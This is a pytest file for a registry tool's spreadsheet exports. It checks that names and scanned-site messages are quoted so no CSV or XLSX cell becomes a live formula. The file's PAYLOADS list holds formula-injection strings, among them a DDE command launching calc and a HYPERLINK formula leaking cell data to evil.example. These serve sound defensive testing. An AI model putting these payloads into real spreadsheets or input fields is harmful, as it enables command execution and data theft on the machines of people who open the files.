"""Formula injection (issue 14, finding 2): names an agency types and messages a scanned site
writes reach every spreadsheet mgov produces -- the XLSX and CSV reports (CLI, API, dashboard),
`mgov export` of the registry (combined CSV and per-type CSVs) and `mgov findings --format csv`.
Each is written through the real code path and read back with openpyxl and the csv module: no
cell is a formula and every text a spreadsheet would evaluate begins with a single quote. The
registry's own CSVs come back through `mgov import` as the names they were."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import re
from pathlib import Path
from typing import Any

import openpyxl
import pytest
import yaml
from sqlalchemy import insert

from mgov.assess.service import run_assessment
from mgov.db.tables import FINDINGS
from mgov.formats.cells import csv_writer, safe_cell, unquote, xlsx_cell
from webworld import build_world

PAYLOADS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?leak="&A2,"x")', "+1+1", "-2+3", "@SUM(A1)",
            "\t=1", "\r=1"]
EVALUATED = ("=", "+", "-", "@", "\t", "\r")
# Texts that must survive export and import unchanged although they look like the quoted ones.
LOOKALIKES = ["'=already quoted", "''+1+1", "''+1", "'-2+3", "'plain", "-5", "'-5", "+861012345", "1+1", "'"]
# A carriage return or line feed inside a cell must not end the row: what follows would begin one.
INSIDE = ["Foo\r=cmd|' /C calc'!A0", "Bar\n@SUM(A1)"]
CODES = {f"cn-44039{i}": p for i, p in enumerate(PAYLOADS)}


def _live(text: str) -> bool:
    """Text a spreadsheet would evaluate: it begins with one of OWASP's characters and is not
    simply a number (which a spreadsheet reads as that number)."""
    return text.startswith(EVALUATED) and re.fullmatch(r"[+-]?[0-9]+(\.[0-9]+)?", text) is None


@pytest.fixture
def planted(engine, tmp_path) -> dict[str, Any]:
    """The web world plus, under Shenzhen, an organization named after each payload with a
    website named the same (written through the API, where names are stored as given), a
    finding on each whose message is the payload, and an assessment over all of them."""
    (tmp_path / "world").mkdir()
    world = build_world(engine, tmp_path / "world")
    admin = world.client("admin")
    names = {**CODES, **{f"cn-44038{i}": t for i, t in enumerate(LOOKALIKES)},
             **{f"cn-44037{i}": t for i, t in enumerate(INSIDE)}}
    for n, (code, name) in enumerate(names.items()):
        answer = admin.api("POST", "/api/v1/organizations", json={
            "code": code, "jurisdiction": "cn", "tier": "county", "parent": "cn-440300", "name_zh": name,
            "name_en": name})
        assert answer.status_code == 201, answer.text
        answer = admin.api("POST", "/api/v1/channels", json={
            "kind": "website", "address": f"https://x{n}.sz.gov.cn", "owner": code, "name": name})
        assert answer.status_code == 201, answer.text
        with engine.begin() as conn:
            conn.execute(insert(FINDINGS).values(
                run_id=world.ids["run"], channel_id=answer.json()["id"], check_id="cn.site_code", status="fail",
                value={"title": name}, message=name, message_zh=name, evidence=[],
                observed_at=dt.datetime(2026, 1, 20, 3, tzinfo=dt.UTC)))
    assessment = run_assessment(engine, "cn-2019-website", "2026-01")["assessment"]
    return {"world": world, "admin": admin, "assessment": assessment, "names": names}


def _assert_quoted(texts: list[str], column: str) -> None:
    """Every payload is there with a quote in front, every text with a line break inside is one
    cell, and no text begins with a character a spreadsheet evaluates."""
    for text in [f"'{p}" for p in PAYLOADS] + INSIDE:
        # XML (hence XLSX) reads a carriage return as a line feed.
        assert text in texts or text.replace("\r", "\n") in texts, (column, text, texts)
    assert [t for t in texts if _live(t)] == [], column


def _assert_safe_workbook(content: bytes) -> dict[str, list[str]]:
    """No cell of any sheet is a formula; the texts of each sheet."""
    book = openpyxl.load_workbook(io.BytesIO(content))
    texts: dict[str, list[str]] = {}
    for sheet in book:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.setdefault(sheet.title, []).append(cell.value)
    return texts


def _read(path: Path, encoding: str = "utf-8") -> str:
    with path.open(encoding=encoding, newline="") as fh:  # a carriage return in a cell stays one
        return fh.read()


def _csv_column(text: str, column: str) -> list[str]:
    return [row[column] for row in csv.DictReader(io.StringIO(text, newline=""))]


def _all_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def test_xlsx_report_from_the_api_the_dashboard_and_the_cli(planted, cli, tmp_path):
    aid = planted["assessment"]
    api = planted["admin"].api("GET", f"/api/v1/assessments/{aid}/report", params={"format": "xlsx", "lang": "en"})
    dashboard = planted["admin"].get(f"/reports/{aid}.xlsx?lang=zh")
    cli("report", "--assessment", str(aid), "--format", "xlsx", "--out", str(tmp_path / "r.xlsx"))
    for name, content in (("api", api.content), ("dashboard", dashboard.content),
                          ("cli", (tmp_path / "r.xlsx").read_bytes())):
        sheets = _assert_safe_workbook(content)
        summary, channels = list(sheets.values())[:2]
        _assert_quoted(summary, f"{name}: summary by organization")
        _assert_quoted(channels, f"{name}: channel rows")
        for sheet in sheets.values():
            assert [t for t in sheet if _live(t)] == [], name
    # Numbers stay numbers: the channels' scores are numeric cells, not text.
    book = openpyxl.load_workbook(io.BytesIO(api.content))
    scores = [row[6] for row in book.worksheets[1].iter_rows(min_row=2) if row[6].value is not None]
    assert scores and all(c.data_type == "n" and isinstance(c.value, (int, float)) for c in scores)


def test_csv_report_from_the_api_the_dashboard_and_the_cli(planted, cli, tmp_path):
    aid = planted["assessment"]
    api = planted["admin"].api("GET", f"/api/v1/assessments/{aid}/report", params={"format": "csv", "lang": "en"})
    dashboard = planted["admin"].get(f"/reports/{aid}.csv?lang=en")
    cli("report", "--assessment", str(aid), "--format", "csv", "--out", str(tmp_path / "r.csv"))
    for name, text in (("api", api.text), ("dashboard", dashboard.text),
                       ("cli", _read(tmp_path / "r.csv", "utf-8-sig"))):
        _assert_quoted(_csv_column(text, "Organization"), name)
        assert [c for c in _all_cells(text) if _live(c)] == [], name
        scores = [s for s in _csv_column(text, "Score") if s]
        assert scores and all(isinstance(float(s), float) for s in scores)  # numbers, no quote in front


def test_registry_export_csv_quotes_and_import_gives_the_names_back(planted, cli, tmp_path):
    names = planted["names"]
    cli("export", str(tmp_path / "registry.csv"))
    cli("export", str(tmp_path / "registry"))
    combined = _read(tmp_path / "registry.csv")
    orgs = [r for r in csv.DictReader(io.StringIO(combined, newline="")) if r["record"] == "organization"]
    _assert_quoted([r["name_zh"] for r in orgs], "combined name_zh")
    _assert_quoted([r["name_en"] for r in orgs], "combined name_en")
    _assert_quoted([r["name"] for r in csv.DictReader(io.StringIO(combined, newline=""))
                    if r["record"] == "channel"], "combined channel name")
    assert [c for c in _all_cells(combined) if _live(c)] == []
    for file, column in (("organizations.csv", "name_zh"), ("channels.csv", "name")):
        text = _read(tmp_path / "registry" / file)
        _assert_quoted(_csv_column(text, column), file)
        assert [c for c in _all_cells(text) if _live(c)] == [], file
    # Texts that are numbers are written as they are; a text already quoted gets one quote more
    # when what follows its quotes would be evaluated, else none.
    by_name = {r["code"]: r["name_zh"] for r in orgs}
    assert {name: by_name[code] for code, name in names.items() if code.startswith("cn-44038")} == {
        "'=already quoted": "''=already quoted", "''+1+1": "'''+1+1", "''+1": "''+1", "'-2+3": "''-2+3",
        "'plain": "'plain", "-5": "-5", "'-5": "'-5", "+861012345": "+861012345", "1+1": "1+1", "'": "'"}

    # mgov import of its own files: every name as it was (trimmed, as the importer trims every
    # cell: a leading tab or carriage return does not survive any import, quoted or not).
    for i, source in enumerate(("registry.csv", "registry")):
        url = f"sqlite:///{tmp_path}/fresh{i}.db"
        cli("db", "upgrade", MGOV_DATABASE_URL=url)
        imported = json.loads(cli("import", str(tmp_path / source), "--json", MGOV_DATABASE_URL=url).stdout)
        assert imported["bad_rows"] == 0, imported
        cli("export", str(tmp_path / f"back{i}.yaml"), MGOV_DATABASE_URL=url)
        doc = yaml.safe_load((tmp_path / f"back{i}.yaml").read_text(encoding="utf-8"))
        back = {o["code"]: (o["name_zh"], o["name_en"]) for o in doc["organizations"] if o["code"] in names}
        assert back == {code: (name.strip(), name.strip()) for code, name in names.items()}, source
        channels = {c["name"] for c in doc["channels"]}
        assert {name.strip() for name in names.values()} <= channels, source


def test_findings_csv_quotes_what_a_site_wrote(planted, cli):
    out = cli("findings", "--run", str(planted["world"].ids["run"]), "--format", "csv").stdout
    _assert_quoted(_csv_column(out, "message"), "findings message")
    assert [c for c in _all_cells(out) if _live(c)] == []


def test_control_characters_do_not_stop_the_xlsx_report(planted):
    """A name with a character XML cannot carry used to make openpyxl refuse the whole report."""
    admin, aid = planted["admin"], planted["assessment"]
    assert admin.api("PATCH", "/api/v1/organizations/cn-440390", json={"name_en": "bad\x01name"}).status_code == 200
    answer = admin.api("GET", f"/api/v1/assessments/{aid}/report", params={"format": "xlsx", "lang": "en"})
    assert answer.status_code == 200
    assert "bad\ufffdname" in _assert_safe_workbook(answer.content)["Channels"]


def test_the_cell_rule():
    for payload in PAYLOADS:
        assert safe_cell(payload) == "'" + payload
    # Real numbers stay numbers; text that is a plain number is written as it is.
    for number in (-2, -2.5, 0, 3, 1e-9, True, None):
        assert safe_cell(number) is number
    for text in ("-2", "+86", "-1.5e3", ".5", "-.5", "1+1", "", "a=b", "'", "Guangzhou"):
        assert safe_cell(text) == text
    for text in ("-", "+", "@", "=", "-2-", "-1,000", "- 2", "-٣", "-inf", "\t", "\r\n"):
        assert safe_cell(text) == "'" + text, repr(text)
    # The quote comes off exactly once, so every text survives a round trip, also texts that
    # already begin with quotes; texts mgov did not quote are read as they are.
    texts = [*PAYLOADS, *LOOKALIKES, "'''=x", "'\t", "x'=", "''", "'''"]
    for text in texts:
        assert unquote(safe_cell(text)) == text, repr(text)
    assert len({safe_cell(t) for t in texts}) == len(set(texts))
    assert unquote("'plain") == "'plain" and unquote("'-5") == "'-5" and unquote("'=x") == "=x"
    assert xlsx_cell("a\x00b\x1fc\td\ne\rf") == "a\ufffdb\ufffdc\td\ne\rf" and xlsx_cell("\x01=1") == "\ufffd=1"
    assert xlsx_cell("=1") == "'=1" and xlsx_cell(-1) == -1


def test_without_the_rule_the_payloads_would_be_live(tmp_path: Path):
    """The check above can fail: openpyxl stores "=..." as a formula unless the quote is put in front."""
    book = openpyxl.Workbook()
    book.active.append([PAYLOADS[0], safe_cell(PAYLOADS[0])])
    book.save(tmp_path / "w.xlsx")
    cells = openpyxl.load_workbook(tmp_path / "w.xlsx").active[1]
    assert [c.data_type for c in cells] == ["f", "s"]



def test_a_line_break_inside_a_cell_cannot_start_a_row(tmp_path: Path):
    """Python's csv module quotes only its own line terminator's characters: with "\\n" lines a
    bare carriage return went out unquoted and, read back, began a row with `=cmd|...`."""
    for ending in ("\n", "\r\n"):
        buf = io.StringIO(newline="")
        writer = csv_writer(buf, lineterminator=ending)
        writer.writerows([["name", "n"], *[[text, -1.5] for text in INSIDE]])
        rows = list(csv.reader(io.StringIO(buf.getvalue(), newline="")))
        assert rows == [["name", "n"], *[[text, "-1.5"] for text in INSIDE]], repr(buf.getvalue())
        assert buf.getvalue().endswith(ending) and buf.getvalue().count(ending) >= 3
    plain = io.StringIO(newline="")
    csv.writer(plain, lineterminator="\n").writerow([INSIDE[0]])
    assert list(csv.reader(io.StringIO(plain.getvalue(), newline="")))[1] == ["=cmd|' /C calc'!A0"]
